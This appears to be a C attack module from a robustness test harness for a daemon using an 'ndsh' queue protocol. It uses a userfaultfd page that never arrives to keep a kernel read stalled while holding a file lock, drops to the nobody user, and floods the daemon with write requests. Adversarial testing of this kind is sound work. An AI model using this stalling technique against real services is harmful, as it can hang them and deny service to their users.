/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The kernel holds a file's lock while it copies from or to a client's page, and the page comes
 * when the client likes. A user has such pages from a file system of its own (FUSE, in a namespace
 * of its own); here a userfaultfd makes one, which takes a right that is given up before the daemon
 * sees this process.
 */
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

#define PAGE   4096u
#define NOBODY 65534u
#define DEPTH  64u

struct reader {
	int fd, userfaults;
	uint8_t *absent;
	pthread_t thread;
};

static bool
absent_page(struct reader *h)
{
	struct uffdio_api api = {.api = UFFD_API};
	struct uffdio_register reg = {.mode = UFFDIO_REGISTER_MODE_MISSING};

	h->userfaults = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	h->absent = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (h->userfaults < 0 || h->absent == MAP_FAILED)
		return false;
	reg.range.start = (uintptr_t)h->absent;
	reg.range.len = PAGE;
	return ioctl(h->userfaults, UFFDIO_API, &api) == 0 &&
	       ioctl(h->userfaults, UFFDIO_REGISTER, &reg) == 0;
}

static void *
read_for_ever(void *arg)
{
	const struct reader *h = arg;

	(void)!read(h->fd, h->absent, PAGE);
	return NULL;
}

static bool
reader_sits(struct reader *h, int fd)
{
	struct uffd_msg m;

	h->fd = fd;
	if (pthread_create(&h->thread, NULL, read_for_ever, h) != 0)
		return false;
	while (read(h->userfaults, &m, sizeof(m)) != sizeof(m))
		attack_pause_us(100);
	return true;
}

static void
reader_goes_on(struct reader *h)
{
	struct uffdio_zeropage z = {.range = {.start = (uintptr_t)h->absent, .len = PAGE}};

	(void)ioctl(h->userfaults, UFFDIO_ZEROPAGE, &z);
	(void)pthread_join(h->thread, NULL);
}

/* The daemon tells of each message by the file that a thread here reads all the while. */
static void
notified(struct target *t, struct duo *d, struct reader *h)
{
	struct ndsh_swr w = duo_request(d, NDSH_OP_WRITE, 8);
	struct ndsh_cqe e[DEPTH];
	bool sits = false;

	attack_starts(t);
	while (attacking(t) && !duo_over(d)) {
		(void)ndsh_cq_arm(&d->cq.reader, NDSH_ARM_ANY, NULL);
		raw_post(&d->r, &d->qp, &w);
		while (ndsh_cq_poll(&d->cq.reader, e, DEPTH) == 0 && attacking(t))
			attack_pause_us(1);
		sits = sits || reader_sits(h, d->cq.wake_fd);
	}
	if (sits)
		reader_goes_on(h);
}

static void
reads_for_ever(struct target *t, uint32_t arg)
{
	struct reader h;
	struct duo d;

	(void)arg;
	if (!absent_page(&h) || setresgid(NOBODY, NOBODY, NOBODY) != 0 ||
		setresuid(NOBODY, NOBODY, NOBODY) != 0) {
		perror("userfaultfd, or to be nobody");
		return;
	}
	if (!duo_begin(&d, t, DEPTH))
		return;
	notified(t, &d, &h);
	duo_end(&d);
}

const struct attack held_attacks[] = {
	{"wake-up-held", reads_for_ever, 0, true},
	{0},
};
